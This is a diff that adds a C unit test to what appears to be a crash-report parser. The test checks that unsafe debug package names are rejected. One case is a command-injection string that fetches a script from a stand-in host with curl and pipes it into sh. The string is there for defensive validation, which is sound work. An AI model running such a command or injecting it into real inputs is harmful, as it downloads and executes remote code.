@@ -140,6 +140,38 @@ TEST(test_waits)
 	assert_non_null(strstr(json, "\"address\":\"0x0\",\"access\":\"write\""));
 }
 
+/* A file that came from anywhere names no command: what is no package's name is none. */
+TEST(test_debug_package)
+{
+	static const struct {
+		const char *name;
+		bool is_taken;
+	} cases[] = {{"libstdc++6-10-dbg", true},
+		     {"7zip.1", true},
+		     {"x; curl http://evil|sh #", false},
+		     {"x y", false},
+		     {"$(x)", false},
+		     {"--option", false},
+		     {"x\ny", false},
+		     {"X", false},
+		     {"", false}};
+	struct sw_report asked = sample_report;
+	struct sw_report_module modules[2];
+	assert_int_equal(asked.n_modules, 2);
+	memcpy(modules, asked.modules, sizeof(modules));
+	asked.modules = modules;
+	for (size_t i = 0; i < SW_ARRAY_SIZE(cases); i++) {
+		modules[0].debug_package = cases[i].name;
+		sw_cleanup(sw_free_p) char *json = json_of(&asked);
+		sw_cleanup(sw_report_destroy_p) struct sw_report *report = parse(json);
+		const char *name = report->modules[0].debug_package;
+		if (cases[i].is_taken)
+			assert_string_equal(name, cases[i].name);
+		else
+			assert_null(name);
+	}
+}
+
 /* Kernel frames stand before the others, and are no stack by themselves. */
 TEST(test_kernel_frames)
 {
